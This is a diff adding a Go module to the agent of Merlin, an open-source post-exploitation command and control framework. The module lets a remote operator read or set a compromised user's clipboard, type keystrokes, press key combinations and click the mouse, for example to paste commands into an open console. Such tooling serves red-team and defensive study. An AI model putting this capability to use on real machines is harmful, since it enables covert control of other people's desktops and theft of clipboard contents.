@@ -0,0 +1,142 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"strconv"
+	"strings"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin-message/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+)
+
+// Input reads or sets the clipboard and synthesizes keyboard and mouse input on the desktop of the user the Agent is
+// running as, enabling UI-level actions such as pasting a command into an open console
+// input clipboard [text]     - Without text, returns the clipboard contents
+// input type <text>          - Types the text into the window with focus; \n presses enter
+// input keys <combination>   - Presses a key combination such as ctrl+v, win+r, alt+tab, or enter
+// input click [x y] [right]  - Clicks the left, or right, mouse button at the current position or the coordinates
+// input move <x> <y>         - Moves the mouse cursor to the screen coordinates
+func Input(cmd jobs.Command) (results jobs.Results) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("entering Input() with %+v", cmd))
+
+	if len(cmd.Args) < 1 {
+		results.Stderr = "no arguments were provided to the input module"
+		return
+	}
+
+	var err error
+	switch strings.ToLower(cmd.Args[0]) {
+	case "clipboard":
+		if len(cmd.Args) < 2 {
+			results.Stdout, err = getClipboard()
+			break
+		}
+		text := strings.Join(cmd.Args[1:], " ")
+		err = setClipboard(text)
+		if err == nil {
+			results.Stdout = fmt.Sprintf("Set the clipboard to %d characters", len([]rune(text)))
+		}
+	case "type":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "the input type command requires the text to type"
+			return
+		}
+		text := strings.ReplaceAll(strings.Join(cmd.Args[1:], " "), `\n`, "\n")
+		err = typeText(text)
+		if err == nil {
+			results.Stdout = fmt.Sprintf("Typed %d characters", len([]rune(text)))
+		}
+	case "keys":
+		if len(cmd.Args) != 2 {
+			results.Stderr = fmt.Sprintf("the input keys command requires 1 argument but received %d", len(cmd.Args)-1)
+			return
+		}
+		err = pressKeys(strings.Split(strings.ToLower(cmd.Args[1]), "+"))
+		if err == nil {
+			results.Stdout = fmt.Sprintf("Pressed %s", cmd.Args[1])
+		}
+	case "click":
+		args := cmd.Args[1:]
+		right := len(args) > 0 && strings.ToLower(args[len(args)-1]) == "right"
+		if right {
+			args = args[:len(args)-1]
+		}
+		switch len(args) {
+		case 0:
+			err = click(right)
+		case 2:
+			var x, y int
+			x, y, err = coordinates(args[0], args[1])
+			if err != nil {
+				break
+			}
+			err = moveMouse(x, y)
+			if err == nil {
+				err = click(right)
+			}
+		default:
+			results.Stderr = "the input click command takes optional x and y coordinates followed by an optional 'right'"
+			return
+		}
+		if err == nil {
+			results.Stdout = "Clicked the mouse"
+		}
+	case "move":
+		if len(cmd.Args) != 3 {
+			results.Stderr = fmt.Sprintf("the input move command requires 2 arguments but received %d", len(cmd.Args)-1)
+			return
+		}
+		var x, y int
+		x, y, err = coordinates(cmd.Args[1], cmd.Args[2])
+		if err == nil {
+			err = moveMouse(x, y)
+		}
+		if err == nil {
+			results.Stdout = fmt.Sprintf("Moved the mouse to %d,%d", x, y)
+		}
+	default:
+		results.Stderr = fmt.Sprintf("unrecognized input command: %s", cmd.Args[0])
+		return
+	}
+	if err != nil {
+		results.Stderr = fmt.Sprintf("there was an error executing the input %s command: %s", strings.ToLower(cmd.Args[0]), err)
+	}
+	return
+}
+
+// coordinates converts the x and y screen coordinate arguments to integers
+func coordinates(xArg, yArg string) (x, y int, err error) {
+	x, err = strconv.Atoi(xArg)
+	if err != nil {
+		return 0, 0, fmt.Errorf("the x coordinate %s is not an integer", xArg)
+	}
+	y, err = strconv.Atoi(yArg)
+	if err != nil {
+		return 0, 0, fmt.Errorf("the y coordinate %s is not an integer", yArg)
+	}
+	return
+}